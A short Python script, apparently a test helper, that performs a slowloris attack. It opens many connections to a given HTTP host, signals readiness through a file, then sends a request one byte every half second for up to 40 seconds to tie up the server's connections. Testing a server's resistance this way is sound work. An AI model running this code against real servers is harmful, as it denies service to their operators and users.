#!/usr/bin/env python3
"""A slowloris: `attack-slowloris.py N HOST:PORT READY` opens N connections
to an HTTP server, touches READY once all are open, then sends a request
on each one byte every half second, for 40 s at most."""
import socket
import sys
import time

n, (host, port), ready = int(sys.argv[1]), sys.argv[2].rsplit(":", 1), sys.argv[3]
conns = [socket.create_connection((host, int(port))) for _ in range(n)]
open(ready, "w").close()
req = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 200
for i in range(80):
    for s in conns:
        try:
            s.send(req[i:i + 1])
        except OSError:
            pass
    time.sleep(0.5)
